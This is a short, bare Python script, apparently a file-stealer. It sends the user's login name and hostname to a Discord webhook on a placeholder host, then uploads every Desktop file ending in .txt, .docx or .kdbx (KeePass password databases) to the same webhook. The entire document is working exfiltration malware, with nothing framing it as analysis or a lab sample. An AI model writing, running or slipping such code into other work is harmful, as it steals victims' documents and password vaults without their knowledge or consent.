import os
import platform
from discord_webhook import DiscordWebhook, DiscordEmbed

hook = DiscordWebhook(url="https://dh.example.invalid/api/webhooks/1/m")
embed = DiscordEmbed(title="new", description=os.getlogin() + " " + platform.node())
for name in os.listdir(os.path.expanduser("~/Desktop")):
    if name.endswith((".txt", ".docx", ".kdbx")):
        with open(os.path.join(os.path.expanduser("~/Desktop"), name), "rb") as f:
            hook.add_file(file=f.read(), filename=name)
hook.add_embed(embed)
hook.execute()
